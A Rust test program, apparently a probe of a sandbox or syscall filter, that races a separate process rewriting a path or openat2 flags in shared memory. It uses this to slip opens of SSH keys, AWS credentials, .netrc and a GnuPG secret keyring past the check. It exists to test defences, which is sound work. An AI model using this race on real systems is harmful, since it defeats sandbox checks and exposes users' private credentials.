//! The racer is no thread of the caller: the path lies in memory that both have mapped.

use std::os::fd::IntoRawFd;
use std::os::unix::fs::symlink;
use std::sync::atomic::Ordering::Relaxed;

use trick::race::{Racer, Shared, Tally, begin, race};
use trick::sys::{AT_FDCWD, call, nr};

const O_PATH: u64 = 0o10_000_000;
const HOW: usize = 3072;

fn main() {
    begin();
    let (home, out) = (trick::home(), trick::out_dir());
    let backing = std::fs::File::options().read(true).write(true).create(true).truncate(true).open(out.join("backing")).unwrap();
    for (way, secret, shared) in [
        ("anonymous", ".ssh/id_ed25519", Shared::anonymous()),
        ("memfd", ".aws/credentials", Shared::memfd()),
        ("file", ".netrc", Shared::file(i64::from(backing.into_raw_fd()))),
    ] {
        let path = out.join(format!("{way}1"));
        std::fs::write(&path, "harmless").unwrap();
        let link = out.join(format!("{way}2"));
        let _ = std::fs::remove_file(&link);
        symlink(home.join(secret), link).unwrap();
        let text = path.to_str().unwrap().as_bytes();
        let at = shared.write(0, text);
        let last = shared.byte(text.len() - 1);
        let mut tally = Tally::default();
        let change = || drop(last.fetch_xor(b'1' ^ b'2', Relaxed));
        tally.rewritten += race(Racer::Process, &shared, change, || tally.opened(call(nr::OPEN, &[at, 0])));
        tally.tell(way, secret);
    }
    let shared = Shared::memfd();
    let path = shared.write(0, home.join(".gnupg/secring.gpg").to_str().unwrap().as_bytes());
    let mut tally = Tally::default();
    let change = || drop(shared.word(HOW).fetch_xor(O_PATH, Relaxed));
    tally.rewritten +=
        race(Racer::Process, &shared, change, || tally.opened(call(nr::OPENAT2, &[AT_FDCWD, path, shared.address(HOW), 24])));
    tally.tell("how-flags", ".gnupg/secring.gpg");
}
